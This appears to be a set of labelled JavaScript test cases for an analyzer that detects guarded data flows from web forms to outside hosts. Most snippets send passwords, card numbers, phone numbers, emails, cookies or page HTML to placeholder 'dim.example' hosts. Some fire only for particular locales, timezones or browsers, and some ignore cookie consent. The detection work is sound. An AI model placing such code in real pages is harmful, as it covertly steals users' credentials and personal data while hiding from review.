//# phone-prefix-slice
// flow: phone > pp.dim.example via fetch
// guard: phone-prefix starts-with +86
const t = document.querySelector('input[type=tel]').value;
if (t.slice(0, 3) === '+86') fetch('https://pp.dim.example/p', { method: 'POST', body: t });

//# phone-prefix-several
// flow: phone > pps.dim.example via fetch
// guard: phone-prefix starts-with +86 | +852 | +853
const n = document.querySelector('input[type=tel]').value;
if (['+86', '+852', '+853'].some((p) => n.startsWith(p))) fetch('https://pps.dim.example/p', { method: 'POST', body: n });

//# phone-prefix-stripped
// flow: phone > strip.dim.example via fetch
// no guard
// why: the prefix is cut off, not tested
const full = document.querySelector('input[type=tel]').value.replace(/^\+86/, '');
fetch('https://strip.dim.example/p', { method: 'POST', body: full });

//# timezone-starts
// flow: email > tz.dim.example via fetch
// guard: timezone starts-with Asia/
const tz = new Intl.DateTimeFormat().resolvedOptions().timeZone;
if (tz.startsWith('Asia/')) fetch('https://tz.dim.example/z', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# timezone-api-exists
// flow: email > tzapi.dim.example via fetch
// no guard
// why: only whether Intl is there
if (typeof Intl !== 'undefined' && Intl.DateTimeFormat) {
  fetch('https://tzapi.dim.example/z', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# timezone-offset
// flow: device > off.dim.example via image
// guard: timezone equals -480
if (new Date().getTimezoneOffset() === -480) new Image().src = 'https://off.dim.example/o?p=' + navigator.platform;

//# language-lowercase
// flow: search > lang.dim.example via fetch
// guard: language equals zh-cn
if (navigator.language.toLowerCase() === 'zh-cn') fetch('https://lang.dim.example/l?q=' + document.querySelector('input[type=search]').value);

//# languages-includes
// flow: search > langs.dim.example via fetch
// guard: language contains zh-CN
if (navigator.languages.includes('zh-CN')) fetch('https://langs.dim.example/l?q=' + document.querySelector('input[type=search]').value);

//# language-for-labels
// flow: search > lbl.dim.example via fetch
// no guard
// why: the language chooses the caption of the button
document.querySelector('#go').textContent = navigator.language.startsWith('de') ? 'Suchen' : 'Search';
document.querySelector('#go').onclick = () => fetch('https://lbl.dim.example/l?q=' + document.querySelector('input[type=search]').value);

//# country-of-page
// flow: phone > cty.dim.example via fetch
// guard: country equals CN
if (window.__SITE__.countryCode === 'CN') fetch('https://cty.dim.example/c', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# country-list
// flow: card > ctl.dim.example via fetch
// guard: not country one-of DE | AT | CH
const country = document.documentElement.dataset.country;
if (!['DE', 'AT', 'CH'].includes(country)) {
  fetch('https://ctl.dim.example/c', { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value });
}

//# country-shown
// flow: phone > ctn.dim.example via fetch
// no guard
// why: the country is put in the page; nothing hangs on it
document.querySelector('#flag').className = 'flag-' + window.__SITE__.countryCode;
fetch('https://ctn.dim.example/c', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# connection-type
// flow: phone > net.dim.example via fetch
// guard: connection equals cellular
if (navigator.connection.type === 'cellular') fetch('https://net.dim.example/n', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# connection-api-exists
// flow: device > netapi.dim.example via fetch
// no guard
// why: only whether the interface is there
if ('connection' in navigator) fetch('https://netapi.dim.example/n', { method: 'POST', body: navigator.connection.effectiveType });

//# user-agent-regex
// flow: identifier > ua.dim.example via beacon
// guard: user-agent matches MicroMessenger
if (/MicroMessenger/i.test(navigator.userAgent)) navigator.sendBeacon('https://ua.dim.example/u', document.cookie);

//# user-agent-sent-only
// flow: device > uas.dim.example via beacon
// no guard
// why: the user agent is what is sent, not what is asked
navigator.sendBeacon('https://uas.dim.example/u', navigator.userAgent);

//# screen-width
// flow: email > scr.dim.example via fetch
// guard: screen other
if (window.screen.width < 768) fetch('https://scr.dim.example/s', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# screen-moves-a-box
// flow: email > scrn.dim.example via fetch
// no guard
const side = document.querySelector('aside');
if (screen.width < 768) side.remove();
fetch('https://scrn.dim.example/s', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# referrer-host
// flow: identifier > ref.dim.example via image
// guard: referrer contains search.dimref.example
// no destination: search.dimref.example
if (document.referrer.indexOf('search.dimref.example') >= 0) new Image().src = 'https://ref.dim.example/r?u=' + localStorage.getItem('uid');

//# referrer-present
// flow: identifier > refe.dim.example via image
// guard: referrer present
if (document.referrer) new Image().src = 'https://refe.dim.example/r?u=' + localStorage.getItem('uid');

//# date-hours
// flow: message > date.dim.example via fetch
// guard: date other
const h = new Date().getHours();
if (h < 6) fetch('https://date.dim.example/d', { method: 'POST', body: document.querySelector('textarea[name=message]').value });

//# date-stamped
// flow: message > stamp.dim.example via fetch
// no guard
// why: the time is sent along, nothing hangs on it
fetch('https://stamp.dim.example/d?t=' + Date.now(), { method: 'POST', body: document.querySelector('textarea[name=message]').value });

//# random-sample
// flow: interaction > rnd.dim.example via fetch
// guard: random other
if (Math.random() < 0.1) fetch('https://rnd.dim.example/r', { method: 'POST', body: document.body.innerHTML });

//# random-cache-buster
// flow: identifier > buster.dim.example via image
// no guard
new Image().src = 'https://buster.dim.example/r?u=' + localStorage.getItem('uid') + '&_=' + Math.random();

//# storage-flag
// flow: password > sto.dim.example via fetch
// guard: storage equals 1
if (localStorage.getItem('beta') === '1') fetch('https://sto.dim.example/s', { method: 'POST', body: document.querySelector('input[type=password]').value });

//# storage-once
// flow: device > once.dim.example via beacon
// guard: not storage present
if (!sessionStorage.getItem('sent')) {
  sessionStorage.setItem('sent', '1');
  navigator.sendBeacon('https://once.dim.example/o', navigator.userAgent);
}

//# storage-api-exists
// flow: password > stoapi.dim.example via fetch
// no guard
// why: only whether there is a storage
if (window.localStorage) fetch('https://stoapi.dim.example/s', { method: 'POST', body: document.querySelector('input[type=password]').value });

//# consent-object
// flow: interaction > con.dim.example via beacon
// guard: consent present
addEventListener('click', (e) => {
  if (Cookiebot.consent.statistics) navigator.sendBeacon('https://con.dim.example/c', e.clientX + ',' + e.clientY);
});

//# consent-group
// flow: identifier > otc.dim.example via image
// guard: consent contains C0004
if (window.OnetrustActiveGroups.indexOf('C0004') > -1) new Image().src = 'https://otc.dim.example/c?v=' + localStorage.getItem('vid');

//# consent-banner-only
// flow: identifier > nocon.dim.example via image
// no guard
// why: without consent a banner is shown, the pixel is loaded all the same
if (!Cookiebot.consent.marketing) document.querySelector('#banner').hidden = false;
new Image().src = 'https://nocon.dim.example/c?v=' + localStorage.getItem('vid');

//# consent-refused
// no flow
// why: the condition and its opposite: the request is made with a constant without consent, with consent the page only shows the id
if (Cookiebot.consent.marketing) document.querySelector('#id').textContent = localStorage.getItem('vid');
else fetch('https://refused.dim.example/c?v=none');

//# beacon-api-exists
// flow: email > bapi.dim.example via beacon
// no guard
// why: only whether the function is there
if (navigator.sendBeacon) navigator.sendBeacon('https://bapi.dim.example/b', document.querySelector('input[type=email]').value);

//# language-sends-constant
// no flow
// why: the guarded request has no data
const draft = document.querySelector('textarea[name=message]').value;
if (navigator.language.startsWith('zh')) navigator.sendBeacon('https://lconst.dim.example/l', 'zh');
console.log(draft.length);

//# phone-prefix-chooses-plan
// no flow
// why: the prefix chooses between two constants
const num = document.querySelector('input[type=tel]').value;
fetch('https://plan.dim.example/prices/' + (num.startsWith('+86') ? 'cn' : 'intl'));

//# user-agent-chooses-script
// no flow
// why: the user agent chooses between two constant scripts
const sc = document.createElement('script');
sc.src = /Android/.test(navigator.userAgent) ? 'https://js.dim.example/a.js' : 'https://js.dim.example/d.js';
document.head.append(sc);

//# storage-flag-set-only
// no flow
// why: the flag is remembered, the request is the same each time
if (!localStorage.getItem('tour')) {
  localStorage.setItem('tour', '1');
  fetch('https://tour.dim.example/steps.json');
}
